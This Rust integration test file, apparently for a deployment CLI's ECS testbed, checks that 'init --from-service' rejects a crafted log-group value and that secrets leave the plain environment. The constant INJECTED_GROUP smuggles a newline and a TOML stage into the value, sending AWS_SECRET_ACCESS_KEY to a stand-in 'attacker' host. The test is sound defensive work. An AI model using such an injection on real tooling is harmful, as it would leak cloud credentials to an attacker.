//! Hostile inputs from the review in issue 16, replayed against the testbed.

use std::collections::HashMap;

use aws_sdk_ecs::types::{
    ContainerDefinition, KeyValuePair, LaunchType, LogConfiguration, LogDriver,
};

use crate::image::{commit_all, fixture_project};
use crate::testbed::{run, unique};

/// What the review put in a task definition's awslogs group: it ends the `#`
/// comment init wrote it into and adds a stage that sends the AWS secret key
/// to the attacker as a bearer token.
const INJECTED_GROUP: &str = "/ecs/x\n[stages.production]\ndeploy = { url = \"http://attacker/mcp\", auth_token_env = \"AWS_SECRET_ACCESS_KEY\" }\n";

/// Guards issue 16 item 1: `mcp init --from-service` on a crafted live service
/// writes no `[stages.production]` (it refuses, naming the field, exit 2).
#[test]
#[ignore = "needs the testbed: tests/testbed/up.sh"]
fn init_from_a_crafted_task_definition_writes_no_foreign_table() {
    let tb = crate::testbed!();
    let name = unique("inject");
    let ecs = tb.ecs();
    tb.block_on(async {
        ecs.create_cluster()
            .cluster_name(&name)
            .send()
            .await
            .unwrap();
        let container = ContainerDefinition::builder()
            .name("mcp")
            .image(format!("{}/{name}:base", tb.var("MCP_TESTBED_REGISTRY")))
            .essential(true)
            .log_configuration(
                LogConfiguration::builder()
                    .log_driver(LogDriver::Awslogs)
                    .set_options(Some(HashMap::from([
                        ("awslogs-group".to_string(), INJECTED_GROUP.to_string()),
                        ("awslogs-region".to_string(), tb.region()),
                        ("awslogs-stream-prefix".to_string(), "ecs".to_string()),
                    ])))
                    .build()
                    .unwrap(),
            )
            .build();
        let registered = ecs
            .register_task_definition()
            .family(&name)
            .container_definitions(container)
            .cpu("256")
            .memory("512")
            .send()
            .await
            .unwrap();
        let arn = registered
            .task_definition()
            .unwrap()
            .task_definition_arn()
            .unwrap()
            .to_string();
        // No task runs: init only reads the service and its task definition.
        ecs.create_service()
            .cluster(&name)
            .service_name(&name)
            .task_definition(arn)
            .desired_count(0)
            .launch_type(LaunchType::Fargate)
            .send()
            .await
            .unwrap();
    });
    // The simulator keeps the group as given: the test is only meaningful if so.
    let live = tb.task_definition(&tb.live_task_definition(&name, &name));
    let group = live.container_definitions()[0]
        .log_configuration()
        .and_then(|l| l.options())
        .and_then(|o| o.get("awslogs-group"))
        .cloned();
    assert_eq!(group.as_deref(), Some(INJECTED_GROUP));

    let dir = tempfile::tempdir().unwrap();
    let spec = format!("{name}/{name}");
    let out = run(tb
        .mcp(dir.path())
        .args(["init", "--from-service", &spec, "-o", "json"]));
    assert_eq!(
        out.code, 2,
        "stdout:\n{}\nstderr:\n{}",
        out.stdout, out.stderr
    );
    assert!(
        out.stderr.contains("the awslogs-group option") && out.stderr.contains("control character"),
        "{}",
        out.stderr
    );
    // Shown escaped, on one line: the payload never starts a line of its own.
    assert!(
        !out.stderr
            .lines()
            .any(|l| l.starts_with("[stages.production]")),
        "{}",
        out.stderr
    );
    let path = dir.path().join("mcp.toml");
    if let Ok(text) = std::fs::read_to_string(&path) {
        assert!(!text.contains("[stages.production]"), "{text}");
    }
    assert!(!path.exists(), "nothing is written when init refuses");

    // Nothing else of the service was at fault: with the log group cleaned up
    // at its source, init writes the file.
    let clean = format!("/ecs/{name}");
    tb.block_on(async {
        let mut container = live.container_definitions()[0].clone();
        let mut options = container
            .log_configuration()
            .and_then(|l| l.options())
            .cloned()
            .unwrap_or_default();
        options.insert("awslogs-group".into(), clean.clone());
        container.log_configuration = Some(
            LogConfiguration::builder()
                .log_driver(LogDriver::Awslogs)
                .set_options(Some(options))
                .build()
                .unwrap(),
        );
        let arn = ecs
            .register_task_definition()
            .family(&name)
            .container_definitions(container)
            .cpu("256")
            .memory("512")
            .send()
            .await
            .unwrap()
            .task_definition()
            .unwrap()
            .task_definition_arn()
            .unwrap()
            .to_string();
        ecs.update_service()
            .cluster(&name)
            .service(&name)
            .task_definition(arn)
            .send()
            .await
            .unwrap();
    });
    let out = run(tb
        .mcp(dir.path())
        .args(["init", "--from-service", &spec, "-o", "json"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains(&format!("log group \"{clean}\"")), "{text}");
    assert!(!text.contains("[stages.production]"), "{text}");
}

/// Guards issue 16 item 3: a value moved from the live `environment` to
/// `[secrets]` leaves the plain-text list: the plan shows the removal (without
/// the value), the new revision has only the reference; and a name declared in
/// both `[env]` and `[secrets]` is refused.
#[test]
#[ignore = "needs the testbed: tests/testbed/up.sh"]
fn a_value_moved_to_secrets_leaves_the_plain_environment() {
    let tb = crate::testbed!();
    // The seeded container has GREETING=hello in `environment`.
    let seeded = tb.seed_service("plainsecret", &[]);
    let before = tb.live_task_definition(&seeded.get("cluster"), &seeded.get("service"));
    let plain = tb.task_definition(&before).container_definitions()[0]
        .environment()
        .iter()
        .find(|kv| kv.name() == Some("GREETING"))
        .and_then(KeyValuePair::value)
        .map(str::to_string);
    assert_eq!(plain.as_deref(), Some("hello"));
    let secrets = aws_sdk_secretsmanager::Client::new(&tb.sdk());
    let arn = tb.block_on(async {
        secrets
            .create_secret()
            .name(format!("/test/{}/greeting", seeded.name))
            .secret_string("hello-from-secrets-manager")
            .send()
            .await
            .unwrap()
            .arn()
            .unwrap()
            .to_string()
    });
    let config = format!(
        "\n[ecs]\ncluster = \"{}\"\nservice = \"{}\"\ncontainer = \"{}\"\n\n[deploy]\ntimeout = \"90s\"\n\n[secrets]\nGREETING = \"{arn}\"\n",
        seeded.get("cluster"),
        seeded.get("service"),
        seeded.get("container"),
    );
    let dir = fixture_project(tb, &seeded.get("repository"), &config);
    commit_all(dir.path());

    let plan = run(tb.mcp(dir.path()).args(["deploy", "--dry-run"]));
    assert_eq!(plan.code, 0, "{}", plan.stderr);
    assert!(
        plan.stdout
            .contains("~ env GREETING: removed (declared in [secrets]"),
        "{}",
        plan.stdout
    );
    assert!(
        !plan.stdout.contains("hello"),
        "the plain value is not shown: {}",
        plan.stdout
    );
    let json = run(tb
        .mcp(dir.path())
        .args(["deploy", "--dry-run", "-o", "json"]));
    assert_eq!(json.code, 0, "{}", json.stderr);
    let changes = json.json()["changes"].clone();
    assert!(
        changes
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["field"] == "env_removed" && c["name"] == "GREETING"),
        "{changes}"
    );
    assert!(!json.stdout.contains("hello"), "{}", json.stdout);

    let deployed = run(tb.mcp(dir.path()).args(["deploy", "-o", "json"]));
    assert_eq!(deployed.code, 0, "{}", deployed.stderr);
    let live = tb.live_task_definition(&seeded.get("cluster"), &seeded.get("service"));
    assert_ne!(live, before);
    let container = tb.task_definition(&live).container_definitions()[0].clone();
    assert!(
        container
            .environment()
            .iter()
            .all(|kv| kv.name() != Some("GREETING")),
        "{:?}",
        container.environment()
    );
    assert!(
        container
            .environment()
            .iter()
            .any(|kv| kv.name() == Some("APP_ENV")),
        "other plain entries stay"
    );
    let secret = container
        .secrets()
        .iter()
        .find(|s| s.name() == "GREETING")
        .expect("the reference is in the new revision");
    assert_eq!(secret.value_from(), arn);

    // Declared twice: refused before anything is built, naming the key and the file.
    let toml = dir.path().join("mcp.toml");
    let text = std::fs::read_to_string(&toml).unwrap();
    std::fs::write(
        &toml,
        format!("{text}\n[env]\nGREETING = \"plain again\"\n"),
    )
    .unwrap();
    let refused = run(tb.mcp(dir.path()).args(["deploy", "--dry-run"]));
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    assert!(
        refused.stderr.contains(&format!(
            "error: `GREETING` is declared in both [env] ({path}) and [secrets] ({path})",
            path = toml.display()
        )),
        "{}",
        refused.stderr
    );
    assert!(
        !refused.stderr.contains("plain again"),
        "{}",
        refused.stderr
    );
}
